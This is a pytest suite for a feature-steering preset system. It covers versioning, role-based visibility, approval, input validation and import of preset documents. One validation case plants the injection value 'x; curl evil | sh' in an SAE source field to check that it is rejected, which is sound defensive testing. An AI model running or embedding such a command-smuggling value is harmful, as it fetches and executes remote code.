"""Presets against a real database: versions that never change, who sees what, what is pinned."""

import copy
import math
from dataclasses import replace
from typing import Any

import pytest
from sqlalchemy.orm import Session

from makers import (
    make_corpus,
    make_evidence,
    make_examples,
    make_label,
    make_release,
    make_run,
)
from people import make_actor
from scopebook.accounts import Actor
from scopebook.db.preset_tables import ResidualNorm
from scopebook.db.tables import Model, Release, Run, Sae
from scopebook.errors import ConflictError, ForbiddenError, InvalidInputError, NotFoundError
from scopebook.preset_diffs import changes_between
from scopebook.preset_documents import check_unchanged, draft_of, pin, sha256_of, warnings_of
from scopebook.preset_drafts import DraftIntervention, Group, PresetDraft
from scopebook.preset_exports import document_of, request_exports, request_pruning, request_tests
from scopebook.preset_imports import import_document
from scopebook.preset_tests import PresetTest, holds, script_share, text_share
from scopebook.preset_views import list_presets, list_versions, read_preset, read_version
from scopebook.presets import (
    StalePresetError,
    change_preset,
    create_preset,
    decide,
    fork_preset,
    save_version,
)
from scopebook.steering import Intervention, Positions

SET = "Tiny-Model/{layer}-res-w1k-l0_8/{index}"


def named(layer: int, index: int) -> str:
    return SET.format(layer=layer, index=index)


def add(layer: int, index: int, value: float = 2.0, **more: Any) -> DraftIntervention:
    asked = {"op": "add", "unit": "raw", "value": value} | {
        key: more.pop(key) for key in ("op", "unit", "value") if key in more
    }
    return DraftIntervention(
        intervention=Intervention(feature=named(layer, index), **asked), **more
    )


def draft(*interventions: DraftIntervention, **more: Any) -> PresetDraft:
    return PresetDraft(interventions=list(interventions or (add(1, 3),)), **more)


def chinese_test(**more: Any) -> PresetTest:
    asked: dict[str, Any] = {
        "name": "falls",
        "prompts": ["a b"],
        "measure": "script",
        "of": "Han",
        "expect": "below",
        "value": 0.05,
    }
    return PresetTest(**asked | more)


@pytest.fixture
def saes(session: Session) -> list[Sae]:
    """Two SAEs with a collection, in which feature 3 of each fires with 3.0 at most."""
    found = make_release(session)
    run = make_run(session, found, make_corpus(session, ["a b c"]))
    for sae in found:
        make_evidence(session, run, sae, 3, examples=make_examples([(1, 0, 2.0)]))
    make_label(session, found[0], 3, "rivers")
    return found


@pytest.fixture
def ann(session: Session) -> Actor:
    return make_actor(session, "ann", "annotator")


def measure_norm(session: Session, sae: Sae, norm: float) -> None:
    run = session.get_one(Run, sae.current_run_id)
    model = session.get_one(Release, sae.release_id).model_id
    session.add(
        ResidualNorm(
            model_id=model, tokenisation_id=run.tokenisation_id, layer=sae.layer, norm=norm
        )
    )
    session.flush()


def test_a_version_pins_what_it_was_made_of(session: Session, saes: list[Sae], ann: Actor) -> None:
    measure_norm(session, saes[0], 8.0)
    wanted = draft(
        add(1, 3, 0.5, unit="max_act", group="water"),
        add(2, 3, 0.25, unit="raw", op="set"),
        add(1, 4, None, op="ablate", unit="max_act"),
        add(1, 5, 0.5, unit="resid_norm"),
        groups=[Group(name="water", strength=0.5)],
        positions=Positions(prompt="last"),
    )

    made = create_preset(session, ann, "less water", wanted, note="first")
    document = document_of(session, ann, made.id)

    assert (made.version, made.features, made.status, made.owner) == (1, 4, "draft", "ann")
    assert document["name"] == "less water"
    assert [one["layer"] for one in document["sae"]] == [1, 2]
    assert document["sae"][0]["sha256"] == saes[0].sha256
    one, other, muted, share = document["interventions"]
    assert (one["label"], one["strength"]["absolute"], one["strength"]["max_act"]) == (
        "rivers",
        1.5,
        3.0,
    )
    assert other["target"]["absolute"] == 0.25
    assert (muted["op"], muted["encode"], "strength" in muted) == ("ablate", "full", False)
    # Half of the norm of 8, over a direction as long as 1.
    assert share["strength"]["absolute"] == 4.0
    assert document["positions"] == {
        "prompt": "last",
        "generation": "all",
        "exclude_special_tokens": False,
    }
    assert draft_of(document) == replace(wanted, tests=[])


def test_a_version_never_changes_and_the_next_one_stands_beside_it(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft())
    first = read_version(session, ann, made.id, 1)

    saved = save_version(
        session, ann, made.id, made.revision, draft(add(1, 3, 4.0), add(1, 5)), "more"
    )

    assert (saved.version, saved.revision) == (2, 2)
    assert read_version(session, ann, made.id, 1).document == first.document
    assert [one.note for one in list_versions(session, ann, made.id)] == ["more", ""]
    assert document_of(session, ann, made.id)["parent"] == f"sha256:{first.sha256}"
    old, new = (document_of(session, ann, made.id, number) for number in (1, 2))
    assert [(one.what, one.before, one.after) for one in changes_between(old, new)] == [
        (named(1, 3), "add 2 raw", "add 4 raw"),
        (named(1, 5), None, "add 2 raw"),
    ]


def test_who_saves_over_what_somebody_else_saved_loses_nothing(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    eve = make_actor(session, "eve", "editor")
    made = create_preset(session, ann, "water", draft())
    save_version(session, eve, made.id, made.revision, draft(add(1, 6)), "eve's")

    with pytest.raises(StalePresetError, match="revision 1, now 2") as stale:
        save_version(session, ann, made.id, made.revision, draft(add(1, 7)), "ann's")
    save_version(session, ann, made.id, stale.value.current.revision, draft(add(1, 7)), "ann's")

    notes = [one.note for one in list_versions(session, ann, made.id)]
    assert notes == ["ann's", "eve's", ""]


def test_what_says_the_same_is_no_new_version(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft())

    with pytest.raises(ConflictError, match="says just this"):
        save_version(session, ann, made.id, 1, draft(), "again")


@pytest.mark.parametrize(
    ("visible_to", "seeing"),
    [
        ("owner", set()),
        ("viewer", {"viewer", "annotator", "editor", "admin"}),
        ("editor", {"editor", "admin"}),
        ("admin", {"admin"}),
    ],
)
def test_a_preset_is_seen_by_a_role_and_those_above(
    session: Session, saes: list[Sae], ann: Actor, visible_to: Any, seeing: set[str]
) -> None:
    made = create_preset(session, ann, "water", draft(), visible_to=visible_to)
    found = set()
    for role in ("viewer", "annotator", "editor", "admin"):
        other = make_actor(session, f"the-{role}", role)
        if list_presets(session, other)[0]:
            found.add(role)
            assert read_preset(session, other, made.id).name == "water"
        else:
            for refused in (read_preset, read_version, list_versions, document_of):
                with pytest.raises(NotFoundError):
                    refused(session, other, made.id)
            with pytest.raises(NotFoundError):
                request_exports(session, other, made.id, 1, ["transformers"])

    assert found == seeing
    assert list_presets(session, ann)[0]


def test_another_annotator_may_copy_a_preset_and_not_change_it(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    ben = make_actor(session, "ben", "annotator")
    made = create_preset(session, ann, "water", draft())

    with pytest.raises(ForbiddenError, match="is ann's"):
        save_version(session, ben, made.id, 1, draft(add(1, 7)), "")
    with pytest.raises(ForbiddenError, match="takes an editor"):
        decide(session, ben, made.id, 1, 1, "approved", "")
    copied = fork_preset(session, ben, made.id, 1, "ben's water")

    assert (copied.owner, copied.version) == ("ben", 1)
    theirs, own = (read_version(session, ben, one, 1) for one in (made.id, copied.id))
    assert theirs.document == own.document
    assert document_of(session, ben, copied.id)["parent"] == f"sha256:{theirs.sha256}"


def test_an_editor_approves_a_version_and_takes_that_back(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    eve = make_actor(session, "eve", "editor")
    made = create_preset(session, ann, "water", draft())

    approved = decide(session, eve, made.id, 1, 1, "approved", "tried it")
    later = save_version(session, ann, made.id, approved.revision, draft(add(1, 7)), "")

    assert (approved.status, approved.approved) == ("approved", 1)
    assert (later.status, later.approved) == ("draft", 1)
    assert read_version(session, ann, made.id, 1).decided_why == "tried it"
    back = decide(session, eve, made.id, later.revision, 1, "draft", "no")
    assert back.approved is None


def test_a_name_is_taken_whoever_asks(session: Session, saes: list[Sae], ann: Actor) -> None:
    create_preset(session, ann, "Water", draft())

    with pytest.raises(ConflictError, match="is there already"):
        create_preset(session, ann, " water ", draft())
    with pytest.raises(InvalidInputError, match="0 characters"):
        create_preset(session, ann, "  ", draft())


def test_an_archived_preset_is_no_longer_listed(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft())

    change_preset(session, ann, made.id, 1, {"archived": True, "name": "old water"})

    assert list_presets(session, ann)[0] == []
    assert [one.name for one in list_presets(session, ann, archived=True)[0]] == ["old water"]


MANY = draft(*(add(1, 3) for _ in range(500)))


@pytest.mark.parametrize(
    ("wanted", "sentence"),
    [
        (MANY, "The preset has 500 features; name 1 to 100"),
        (draft(add(1, 3, math.nan)), "has the value nan; give a number between"),
        (draft(add(1, 3, math.inf)), "has the value inf"),
        (draft(add(1, 3, None)), "needs a value"),
        (draft(add(1, 3, 1.0, op="ablate")), "ablate takes no value"),
        (draft(add(1, 99)), "There is no feature Tiny-Model/1-res-w1k-l0_8/99"),
        (draft(add(7, 1)), "There is no feature Tiny-Model/7-res-w1k-l0_8/1"),
        (draft(add(1, 3), add(1, 3)), "is named twice"),
        (draft(add(1, 3, enabled=False)), "No feature of the preset is enabled"),
        (draft(add(1, 3, group="x")), "is in the group 'x', which is not there"),
        (draft(groups=[Group(name="x", strength=math.nan)]), "has the strength nan"),
        (draft(positions=Positions(prompt="none", written=False)), "No token is to be steered"),
        (draft(add(1, 4, 2.0, unit="max_act")), "fired nowhere in what was collected"),
        (draft(add(1, 3, 2.0, unit="resid_norm")), "was not measured at layer 1 yet"),
        (
            draft(add(1, 3, 0.5, op="project"), add(1, 4, 0.2, op="project")),
            "Projections of layer 1 leave 0.5 and 0.2",
        ),
        (draft(tests=[chinese_test(expect="less")]), "expects 'less'; give one of script"),
        (draft(tests=[chinese_test(of="Klingon")]), "'Klingon' is no script"),
        (draft(tests=[chinese_test(of=None)]), "needs `of`"),
        (draft(tests=[chinese_test(measure="distinct")]), "takes no `of`"),
        (draft(tests=[chinese_test(value=math.nan)]), "expects the value nan"),
        (draft(tests=[chinese_test(), chinese_test()]), "Several tests are called 'falls'"),
        (draft(tests=[chinese_test(prompts=[])]), "has 0 prompts"),
        (draft(tests=[chinese_test(samples=99)]), "writes 99 texts"),
        (
            draft(tests=[chinese_test(measure="activation", of=named(9, 1))]),
            "There is no feature Tiny-Model/9",
        ),
    ],
)
def test_what_means_nothing_is_refused_in_a_sentence(
    session: Session, saes: list[Sae], ann: Actor, wanted: PresetDraft, sentence: str
) -> None:
    with pytest.raises((InvalidInputError, NotFoundError), match=sentence):
        create_preset(session, ann, "water", wanted)

    assert list_presets(session, ann)[0] == []


def test_a_preset_stays_with_its_release(session: Session, saes: list[Sae], ann: Actor) -> None:
    model = session.get_one(Model, session.get_one(Release, saes[0].release_id).model_id)
    make_release(session, "SAE-Res-Tiny-Model-W1K-L0_9", model=model, set_name="res-w1k-l0_9")
    others = Intervention(feature="Tiny-Model/1-res-w1k-l0_9/3", value=1.0, unit="raw")
    foreign = draft(DraftIntervention(intervention=others))
    made = create_preset(session, ann, "water", draft())

    with pytest.raises(InvalidInputError, match="is for SAE-Res-Tiny-Model-W1K-L0_8, and these"):
        save_version(session, ann, made.id, 1, foreign, "")
    with pytest.raises(InvalidInputError, match="take features of its own release"):
        create_preset(session, ann, "other", foreign, release="SAE-Res-Tiny-Model-W1K-L0_8")
    with pytest.raises(InvalidInputError, match="belong to several releases"):
        create_preset(session, ann, "both", draft(add(1, 3), *foreign.interventions))


def test_another_sae_file_is_a_warning_and_nothing_is_exported(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft(tests=[chinese_test()]))
    saes[0].sha256 = "f" * 64
    session.flush()

    release = session.get_one(Release, saes[0].release_id)
    [warning] = warnings_of(session, read_version(session, ann, made.id, 1).document or {}, release)
    assert "is another file now (SHA-256 ffffffffffff" in warning
    with pytest.raises(InvalidInputError, match="bring that file back, or save a new version"):
        request_exports(session, ann, made.id, 1, ["transformers"])
    with pytest.raises(InvalidInputError, match="bring that file back"):
        request_tests(session, ann, made.id, 1)


def test_a_missing_sae_is_named_with_what_brings_it(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft())
    saes[0].artifact = ""
    session.flush()

    with pytest.raises(InvalidInputError, match=r"is not here.* --layers 1"):
        request_exports(session, ann, made.id, 1, ["gguf"])


def test_other_weights_of_the_model_and_another_model_are_warnings(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    release = session.get_one(Release, saes[0].release_id)
    _, document = pin(session, draft())
    session.get_one(Model, release.model_id).sha256 = "e" * 64
    document["sae"][0]["trained_on"] = "Other-Model"

    trained, weights = warnings_of(session, document, release)

    assert "was trained on Other-Model, and steers Tiny-Model here" in trained
    assert "The weights of Tiny-Model are others" in weights


@pytest.mark.parametrize(
    ("target", "wanted", "sentence"),
    [
        ("gguf", draft(add(1, 3, None, op="ablate")), "ablate"),
        ("ollama", draft(), "targets are: transformers"),
    ],
)
def test_a_target_that_cannot_say_it_refuses_with_its_reason(
    session: Session,
    saes: list[Sae],
    ann: Actor,
    target: str,
    wanted: PresetDraft,
    sentence: str,
) -> None:
    made = create_preset(session, ann, "water", wanted)

    with pytest.raises(InvalidInputError, match=sentence):
        request_exports(session, ann, made.id, 1, [target])


def test_only_what_can_be_measured_is_asked_for(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft())

    with pytest.raises(InvalidInputError, match="has no tests"):
        request_tests(session, ann, made.id, 1)
    with pytest.raises(InvalidInputError, match="There is no test 'x'"):
        request_pruning(session, ann, made.id, 1, test="x", group=None)
    saved = save_version(session, ann, made.id, 1, draft(tests=[chinese_test()]), "")
    with pytest.raises(InvalidInputError, match="has 1 enabled features, so there is nothing"):
        request_pruning(session, ann, saved.id, 2, test="falls", group=None)


def test_a_document_comes_back_as_it_left(session: Session, saes: list[Sae], ann: Actor) -> None:
    measure_norm(session, saes[0], 8.0)
    wanted = draft(
        add(1, 3, 0.5, unit="max_act", group="water"),
        add(1, 4, None, op="ablate"),
        add(1, 5, 0.5, unit="resid_norm"),
        add(2, 6, 3.0, op="scale", enabled=False),
        groups=[Group(name="water", strength=-2.0)],
        tests=[chinese_test()],
    )
    made = create_preset(session, ann, "water", wanted)
    document = document_of(session, ann, made.id)
    # What is known of the corpus may be different where it is taken in.
    session.query(ResidualNorm).delete()

    taken = import_document(session, ann, document, name="taken")

    theirs, own = (read_version(session, ann, one, 1) for one in (made.id, taken.id))
    assert own.document == theirs.document
    assert sha256_of(own.document or {}) == theirs.sha256


def spoilt(document: dict[str, Any], *path: str | int, value: Any) -> dict[str, Any]:
    found: Any = copy.deepcopy(document)
    at = found
    for step in path[:-1]:
        at = at[step]
    at[path[-1]] = value
    return dict(found)


@pytest.mark.parametrize(
    ("path", "value", "sentence"),
    [
        (("schema",), "steering-preset/9", "schema: Input should be 'steering-preset/1.0'"),
        (("interventions",), None, "interventions: Input should be a valid list"),
        (("interventions",), [], "interventions: List should have at least 1"),
        (("interventions", 0), 7, "is no complete preset"),
        (("interventions", 0, "op"), "explode", r"interventions.0.op: Input should be 'add'"),
        (("interventions", 0, "enabled"), 2, "enabled: Input should be a valid boolean"),
        (("interventions", 0, "strength"), None, "has no strength"),
        (("interventions", 0, "strength", "absolute"), math.nan, "should be a finite number"),
        (("interventions", 0, "strength", "absolute"), "2", "should be a valid number"),
        (("interventions", 0, "strength", "absolute"), 10**400, "is no complete preset"),
        (("interventions", 0, "strength", "absolute"), 99.0, "not its absolute 99"),
        (("interventions", 0, "strength", "unit"), "max_act", "which is nan"),
        (("interventions", 0, "id"), "nothing", "is not a feature id"),
        (("interventions", 0, "id"), named(2, 3), "which are another feature's"),
        (("interventions", 0, "feature"), 4, "which are another feature's"),
        (("interventions", 0, "sae"), "s9", "which are another feature's"),
        (("sae",), [], "sae: List should have at least 1"),
        (("sae", 0, "sha256"), "0" * 64, "has the SHA-256"),
        (("sae", 0, "layer"), 9, "which are another feature's"),
        (("sae", 0, "layer"), math.inf, "is no complete preset"),
        (("sae", 0, "source"), "x; curl evil | sh", "should match pattern"),
        (("groups",), [{"name": "x", "strength": 1.0}] * 99, "at most 50 items"),
        (("groups",), [{"name": 1, "strength": 1.0}], "should be a valid string"),
        (("groups",), [{"name": "a\nb", "strength": 1.0}], "has no name of its own"),
        (("positions", "prompt"), "some", "positions.prompt: Input should be 'all'"),
        (("positions", "generation"), ["all"], "positions.generation: Input should be 'all'"),
        (("positions", "exclude_special_tokens"), "no", "should be a valid boolean"),
        (("tests",), [chinese_test(expect="less").as_json()], "tests.0.expect"),
        (("tests",), [chinese_test(measure="banana").as_json()], "tests.0.measure"),
        (("tests",), [chinese_test().as_json() | {"prompts": "abc"}], "tests.0.prompts"),
        (("tests",), [chinese_test().as_json() | {"samples": 1.5}], "tests.0.samples"),
        (("tests",), [chinese_test(of="x" * 5_000).as_json()], "has 5,000 characters as `of`"),
        (("name",), "a\n# b", "holds characters that cannot be printed"),
    ],
)
def test_a_document_that_is_none_is_refused(
    session: Session,
    saes: list[Sae],
    ann: Actor,
    path: tuple[str | int, ...],
    value: Any,
    sentence: str,
) -> None:
    made = create_preset(session, ann, "water", draft())
    document = document_of(session, ann, made.id)

    broken = spoilt(document, *path, value=value)
    with pytest.raises((InvalidInputError, NotFoundError), match=sentence):
        import_document(session, ann, broken, name=None if path == ("name",) else "taken")


def test_what_neuronpedia_keeps_of_steering_comes_in_as_raw_strengths(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    """As its steer request has it: the model's name in lower case, the index a string."""
    theirs = {
        "prompt": "The house",
        "modelId": "tiny-model",
        "features": [
            {"modelId": "tiny-model", "layer": "1-res-w1k-l0_8", "index": 3, "strength": 12},
            {"modelId": "tiny-model", "layer": "2-res-w1k-l0_8", "index": "7", "strength": -4.5},
        ],
        "strength_multiplier": 2,
        "steer_method": "SIMPLE_ADDITIVE",
    }

    made = import_document(session, ann, theirs, name="theirs")

    interventions = document_of(session, ann, made.id)["interventions"]
    assert [(one["id"], one["strength"]["absolute"]) for one in interventions] == [
        (named(1, 3), 24.0),
        (named(2, 7), -9.0),
    ]


@pytest.mark.parametrize(
    ("spoil", "sentence"),
    [
        ({"steer_method": "ORTHOGONAL_DECOMP"}, "which is no addition of directions"),
        ({"strength_multiplier": "2"}, "has '2' as strength_multiplier"),
        ({"features": ["x"]}, "is no feature"),
        (
            {"features": [{"modelId": "tiny-model", "layer": "1-res-w1k-l0_8"}]},
            "names none; give modelId",
        ),
        (
            {"features": [{"modelId": "m", "layer": "1-res-w1k-l0_8", "index": 1, "strength": 1}]},
            "There is no model 'm' here",
        ),
        (
            {"features": [{"modelId": "tiny-model", "layer": "1-res-w1k-l0_8", "index": 1}]},
            "has 'None' as strength",
        ),
    ],
)
def test_what_is_not_an_addition_of_features_of_neuronpedia_is_refused(
    session: Session, saes: list[Sae], ann: Actor, spoil: dict[str, Any], sentence: str
) -> None:
    with pytest.raises((InvalidInputError, NotFoundError), match=sentence):
        import_document(session, ann, {"features": [], **spoil}, name="theirs")


def test_a_document_of_saes_that_are_not_here_says_what_brings_them(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft())
    document = document_of(session, ann, made.id)
    document["interventions"][0] |= {"sae": "s9", "id": named(9, 3)}
    document["sae"][0] |= {"ref": "s9", "layer": 9, "source": "Qwen/SAE-Res-X"}

    with pytest.raises(InvalidInputError, match="scopebook add Qwen/SAE-Res-X --layers 9"):
        import_document(session, ann, document, name="taken")


def test_a_document_of_other_weights_comes_in_with_a_warning(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft())
    document = document_of(session, ann, made.id)
    document["model"] |= {"weights_sha256": "b" * 64}

    taken = import_document(session, ann, document, name="taken")

    own = read_version(session, ann, taken.id).document or {}
    release = session.get_one(Release, saes[0].release_id)
    [warning] = warnings_of(session, own, release)
    assert "The weights of Tiny-Model are others" in warning


def test_a_collection_made_since_changes_no_strength_that_nobody_touched(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    wanted = draft(add(1, 3, 0.5, unit="max_act"), add(2, 3, 0.5, unit="max_act"))
    made = create_preset(session, ann, "water", wanted)
    for sae in saes:
        run = make_run(session, [sae], make_corpus(session, ["d"], name=f"new {sae.layer}"))
        make_evidence(session, run, sae, 3, examples=make_examples([1]), largest=9.0)

    save_version(
        session,
        ann,
        made.id,
        1,
        draft(add(1, 3, 0.5, unit="max_act"), add(2, 3, 0.6, unit="max_act")),
        "",
    )

    one, other = document_of(session, ann, made.id)["interventions"]
    assert (one["strength"]["absolute"], one["strength"]["max_act"]) == (1.5, 3.0)
    assert (other["strength"]["absolute"], other["strength"]["max_act"]) == (
        pytest.approx(5.4),
        9.0,
    )


def test_norms_are_those_of_each_layers_own_corpus(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    measure_norm(session, saes[0], 8.0)
    run = make_run(session, saes[1:], make_corpus(session, ["d"], name="other"))
    make_evidence(session, run, saes[1], 3, examples=make_examples([1]))
    share = {"op": "add", "unit": "resid_norm"}

    with pytest.raises(InvalidInputError, match="was not measured at layer 2 yet"):
        create_preset(
            session, ann, "water", draft(add(1, 3, 1.0, **share), add(2, 3, 1.0, **share))
        )
    measure_norm(session, saes[1], 20.0)
    made = create_preset(
        session, ann, "water", draft(add(1, 3, 1.0, **share), add(2, 3, 1.0, **share))
    )

    found = document_of(session, ann, made.id)["interventions"]
    assert [one["strength"]["absolute"] for one in found] == [8.0, 20.0]


def test_projections_that_are_not_done_together_may_differ(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    off = add(1, 3, 0.5, op="project")
    on = add(1, 4, 0.2, op="project", enabled=False)
    create_preset(session, ann, "off", draft(off, on))
    groups = [Group(name="once"), Group(name="twice", strength=2.0)]
    same = [
        add(1, 3, 0.5, op="project", group="once"),
        add(1, 4, 0.75, op="project", group="twice"),
    ]
    tests = [chinese_test()]
    made = create_preset(session, ann, "same", draft(*same, groups=groups, tests=tests))

    with pytest.raises(InvalidInputError, match="are projected as one space, of which none can"):
        request_pruning(session, ann, made.id, 1, test="falls", group=None)


def test_an_export_says_for_ever_what_its_version_was_called(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    made = create_preset(session, ann, "water", draft(), description="Says water.")
    before = document_of(session, ann, made.id, 1)

    change_preset(session, ann, made.id, 1, {"name": "rivers", "description": "Says rivers."})

    assert document_of(session, ann, made.id, 1) == before


def test_an_editor_hides_no_preset_from_itself(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    eve = make_actor(session, "eve", "editor")
    made = create_preset(session, ann, "water", draft())

    with pytest.raises(InvalidInputError, match="would be hidden from you too"):
        change_preset(session, eve, made.id, 1, {"visible_to": "admin"})
    change_preset(session, eve, made.id, 1, {"visible_to": "editor"})


def test_a_test_whose_feature_has_lost_its_sae_is_refused(
    session: Session, saes: list[Sae], ann: Actor
) -> None:
    reads = chinese_test(measure="activation", of=named(2, 3))
    made = create_preset(session, ann, "water", draft(tests=[reads]))
    saes[1].artifact = ""
    session.flush()

    with pytest.raises(InvalidInputError, match=r"reads a feature of layer 2.* --layers 2"):
        request_tests(session, ann, made.id, 1)


def test_hashes_are_held_against_those_of_the_files(session: Session, saes: list[Sae]) -> None:
    _, document = pin(session, draft())

    check_unchanged(document, {1: saes[0].sha256})
    with pytest.raises(InvalidInputError, match="has the SHA-256 aaaaaaaaaaaa"):
        check_unchanged(document, {1: "a" * 64})


@pytest.mark.parametrize(
    ("expect", "value", "unsteered", "steered", "kept"),
    [
        ("below", 0.05, 0.9, 0.04, True),
        ("below", 0.05, 0.9, 0.05, False),
        ("above", 0.5, 0.0, 0.6, True),
        ("falls", 0.5, 0.9, 0.4, True),
        ("falls", 0.5, 0.9, 0.5, False),
        ("rises", 0.5, 0.1, 0.7, True),
        ("rises", 0.5, 0.1, math.nan, False),
        ("below", 0.5, 0.1, math.nan, False),
    ],
)
def test_a_test_holds_or_fails(
    expect: Any, value: float, unsteered: float, steered: float, kept: bool
) -> None:
    test = replace(chinese_test(), expect=expect, value=value)

    assert holds(test, unsteered=unsteered, steered=steered) is kept


def test_shares_are_of_letters_and_of_texts() -> None:
    assert script_share("Han", ["文件, file 1"]) == pytest.approx(2 / 6)
    assert script_share("Han", ["1, 2"]) == 0.0
    assert text_share("RIVER", ["the river", "a hill"]) == 0.5
